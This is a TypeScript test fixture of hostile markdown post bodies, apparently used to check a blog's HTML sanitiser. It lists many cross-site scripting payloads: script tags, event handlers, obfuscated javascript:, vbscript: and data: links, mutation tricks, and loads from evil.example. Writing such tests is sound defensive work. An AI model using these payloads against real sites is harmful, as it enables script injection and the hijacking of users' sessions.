/**
 * Hostile post bodies. Every one tries to run script: set `window.__pwned` or open an
 * `alert`. None may succeed, and none may leave an event-handler attribute or a URL outside
 * spec §5's allow-list anywhere in the rendered page.
 */
export interface Attack {
  readonly name: string;
  readonly markdown: string;
}

const PWN = 'window.__pwned=true';

const rawHtml: Attack[] = [
  { name: 'script tag', markdown: `<script>${PWN}</script>` },
  { name: 'upper-case script with src', markdown: `<SCRIPT SRC=//evil.example/x.js></SCRIPT>` },
  { name: 'img onerror', markdown: `<img src=x onerror="${PWN}">` },
  { name: 'img onerror alert, unquoted', markdown: `<img src=x onerror=alert(1)>` },
  { name: 'svg onload', markdown: `<svg onload="${PWN}"></svg>` },
  { name: 'script inside svg', markdown: `<svg><script>${PWN}</script></svg>` },
  { name: 'svg animate onbegin', markdown: `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>` },
  { name: 'svg xlink:href javascript', markdown: `<svg><a xlink:href="javascript:${PWN}"><text y="20">x</text></a></svg>` },
  { name: 'iframe srcdoc', markdown: `<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>` },
  { name: 'iframe javascript src', markdown: `<iframe src="javascript:parent.__pwned=true"></iframe>` },
  { name: 'iframe to another site', markdown: `<iframe src="https://evil.example/"></iframe>` },
  { name: 'a href javascript', markdown: `<a href="javascript:${PWN}">click me</a>` },
  { name: 'a href with entity-encoded scheme', markdown: `<a href="&#x6A;avascript:${PWN}">click me</a>` },
  { name: 'a href with a tab in the scheme', markdown: `<a href="jav&#x09;ascript:${PWN}">click me</a>` },
  { name: 'form action', markdown: `<form action="javascript:${PWN}"><button>Send</button></form>` },
  { name: 'button formaction', markdown: `<form><button formaction="javascript:${PWN}">Send</button></form>` },
  { name: 'object data', markdown: `<object data="javascript:${PWN}"></object>` },
  { name: 'object with a plugin', markdown: `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>` },
  { name: 'embed src', markdown: `<embed src="javascript:${PWN}">` },
  { name: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">` },
  { name: 'style with a javascript url', markdown: `<style>body{background:url("javascript:${PWN}")}</style>` },
  { name: 'style importing another site', markdown: `<style>@import 'https://evil.example/x.css'; main{display:none}</style>` },
  { name: 'inline style attribute', markdown: `<div style="background:url(javascript:${PWN})">styled</div>` },
  { name: 'details ontoggle', markdown: `<details open ontoggle="${PWN}"><summary>More</summary>text</details>` },
  { name: 'body onload', markdown: `<body onload="${PWN}">` },
  { name: 'input autofocus onfocus', markdown: `<input autofocus onfocus="${PWN}">` },
  { name: 'video source onerror', markdown: `<video><source onerror="${PWN}"></video>` },
  { name: 'marquee onstart', markdown: `<marquee onstart="${PWN}">moving</marquee>` },
  { name: 'base href', markdown: `<base href="javascript:${PWN}//">` },
  { name: 'link import', markdown: `<link rel="import" href="data:text/html,<script>parent.__pwned=true</script>">` },
  { name: 'template', markdown: `<template><img src=x onerror="${PWN}"></template>` },
  { name: 'noscript mutation', markdown: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">` },
  { name: 'math mutation', markdown: `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">` },
  { name: 'img srcset javascript', markdown: `<img srcset="javascript:${PWN} 1x">` },
  { name: 'a ping', markdown: `<a ping="https://evil.example/track" href="https://example.com/">tracked</a>` },
  { name: 'unclosed img at the end', markdown: `Text first.\n\n<img src=x onerror="${PWN}"` },
  { name: 'unclosed a', markdown: `<a href=javascript:${PWN}>never closed` },
  { name: 'nested script tags', markdown: `<<script>script>${PWN}<</script>/script>` },
  { name: 'split script tag', markdown: `<scr<script>ipt>${PWN}</scr</script>ipt>` },
  { name: 'html comment hiding a script', markdown: `<!--><script>${PWN}</script>-->` },
  { name: 'cdata', markdown: `<![CDATA[<script>${PWN}</script>]]>` },
  { name: 'html in a heading', markdown: `# <svg onload=${PWN}>` },
  { name: 'html in a table cell', markdown: `| a |\n|---|\n| <img src=x onerror=${PWN}> |` },
  { name: 'html in link text', markdown: `[<img src=x onerror=${PWN}>](https://example.com/)` },
  { name: 'html in a footnote', markdown: `See the note.[^1]\n\n[^1]: <script>${PWN}</script>` },
];

const links: Attack[] = [
  { name: 'javascript link', markdown: `[click](javascript:${PWN})` },
  { name: 'mixed-case javascript link', markdown: `[click](JaVaScRiPt:${PWN})` },
  { name: 'javascript link with a title', markdown: `[click](javascript:alert(1) "A title")` },
  { name: 'javascript link in angle brackets', markdown: `[click](<javascript:${PWN}>)` },
  { name: 'decimal entity in the scheme', markdown: `[click](java&#115;cript:${PWN})` },
  { name: 'hex entity in the scheme', markdown: `[click](java&#x73;cript:${PWN})` },
  { name: 'fully entity-encoded scheme', markdown: `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN})` },
  { name: 'named entity colon', markdown: `[click](javascript&colon;${PWN})` },
  { name: 'entity colon without semicolon', markdown: `[click](javascript&#58${PWN})` },
  { name: 'zero-padded entities', markdown: `[click](&#0000106avascript&#0000058${PWN})` },
  { name: 'percent-encoded letter', markdown: `[click](jav%61script:${PWN})` },
  { name: 'fully percent-encoded scheme', markdown: `[click](%6A%61%76%61%73%63%72%69%70%74%3A${PWN})` },
  { name: 'tab entity inside the scheme', markdown: `[click](java&Tab;script:${PWN})` },
  { name: 'newline entity inside the scheme', markdown: `[click](java&NewLine;script:${PWN})` },
  { name: 'numeric newline and tab inside the scheme', markdown: `[click](ja&#10;va&#9;script:${PWN})` },
  { name: 'literal tab inside the scheme', markdown: `[click](<java\tscript:${PWN}>)` },
  { name: 'control character before the scheme', markdown: `[click](\u0001javascript:${PWN})` },
  { name: 'escaped colon', markdown: `[click](javascript\\:${PWN})` },
  { name: 'javascript comment trick', markdown: `[click](javascript://%0A${PWN})` },
  { name: 'vbscript link', markdown: `[click](vbscript:${PWN})` },
  { name: 'mixed-case vbscript link', markdown: `[click](VbScRiPt:msgbox(1))` },
  { name: 'data html link', markdown: `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD10cnVlPC9zY3JpcHQ+)` },
  { name: 'mixed-case data link', markdown: `[click](DaTa:text/html,%3Cscript%3E${PWN}%3C/script%3E)` },
  { name: 'href attribute breakout', markdown: `[click](https://example.com/" onclick="${PWN})` },
  { name: 'title attribute breakout', markdown: `[click](https://example.com/ "t\\" onmouseover=\\"${PWN}")` },
  { name: 'reference link', markdown: `[click][evil]\n\n[evil]: javascript:${PWN}` },
  { name: 'reference link with an encoded scheme and title', markdown: `[click][evil]\n\n[evil]: JaVa&#x53;cript:${PWN} "Title"` },
  { name: 'collapsed reference link', markdown: `[evil][]\n\n[evil]: vbscript:${PWN}` },
  { name: 'autolink javascript', markdown: `<javascript:${PWN}>` },
  { name: 'autolink upper case', markdown: `<JAVASCRIPT:alert(1)>` },
  { name: 'autolink vbscript', markdown: `<vbscript:${PWN}>` },
  { name: 'autolink data', markdown: `<data:text/html,<script>${PWN}</script>>` },
  { name: 'links inside a list inside a quote', markdown: `> - [one](javascript:${PWN})\n> - [two](JAVASCRIPT:alert(1))` },
  { name: 'nested brackets', markdown: `[[[[[click](javascript:${PWN})]]]]` },
];

const images: Attack[] = [
  { name: 'javascript image', markdown: `![pic](javascript:${PWN})` },
  { name: 'upper-case javascript image', markdown: `![pic](JAVASCRIPT:${PWN})` },
  { name: 'vbscript image', markdown: `![pic](vbscript:${PWN})` },
  { name: 'data svg image', markdown: `![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)` },
  { name: 'entity-encoded data image', markdown: `![pic](&#100;ata:image/svg+xml,<svg onload=alert(1)>)` },
  { name: 'image src attribute breakout', markdown: `![pic](x" onerror="${PWN})` },
  { name: 'reference image', markdown: `![pic][img]\n\n[img]: javascript:${PWN}` },
  { name: 'image inside a link, both hostile', markdown: `[![pic](javascript:${PWN})](javascript:alert(1))` },
];

/** Allowed links and images, which must survive unchanged (the sanitiser is not a blanket ban). */
const allowed: Attack[] = [
  {
    name: 'allowed protocols',
    markdown:
      '[web](https://example.com/a?b=c#d) [plain](http://example.com/) [mail](mailto:a@example.com) ' +
      '[chat](xmpp:user@example.com) [irc](irc://irc.example.net/vedanta) [ircs](ircs://irc.example.net/vedanta) ' +
      '[relative](/blog/atman-and-brahman) [fragment](#top) [sibling](other-post) ![img](/functions/v1/media/what-is-vedanta.svg)',
  },
];

/** Aimed at the raw HTML tags posts may use (`br`, `sup`, `abbr`, `details`...): they must keep no attribute. */
const allowListed: Attack[] = [
  { name: 'event handler on an allowed tag', markdown: `E = mc<sup onmouseover="${PWN}" onclick="${PWN}">2</sup>` },
  { name: 'style and id on an allowed tag', markdown: `<mark style="background:url(javascript:${PWN})" id="x">marked</mark>` },
  { name: 'abbr with a javascript title and handler', markdown: `<abbr title="javascript:${PWN}" onfocus="${PWN}" tabindex="0">JS</abbr>` },
  { name: 'details ontoggle, open', markdown: `<details ontoggle="${PWN}" open><summary onclick="${PWN}">S</summary>body</details>` },
  {
    name: 'details with a script inside',
    markdown: `<details open><summary>S</summary><script>${PWN}</script><img src=x onerror="${PWN}"></details>`,
  },
  { name: 'allowed tag inside SVG', markdown: `<svg><foreignObject><sup onload="${PWN}">1</sup></foreignObject></svg>` },
  { name: 'allowed tag inside MathML', markdown: `<math><mi xlink:href="javascript:${PWN}"><kbd>k</kbd></mi></math>` },
  { name: 'script nested in allowed tags', markdown: `<sup><sub><kbd><script>${PWN}</script></kbd></sub></sup>` },
  { name: 'allowed tags left open', markdown: `<details open><summary>S<sup>one <mark>two <img src=x onerror="${PWN}">` },
  { name: 'a stray closing tag before a script', markdown: `</details></sup><script>${PWN}</script>` },
  { name: 'an allowed tag with a quoted closing bracket', markdown: `<abbr title="x><img src=x onerror=${PWN}>">y</abbr>` },
  { name: 'a br with attributes', markdown: `one<br onclick="${PWN}" style="x" id="y">two` },
  { name: 'upper-case allowed tag with a handler', markdown: `<SUP ONCLICK="${PWN}">1</SUP>` },
];

export const ATTACKS: readonly Attack[] = [...rawHtml, ...allowListed, ...links, ...images, ...allowed];

/** Schemes spec §5 lets through; everything else must be emptied. */
export const ALLOWED_PROTOCOLS = ['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:'];
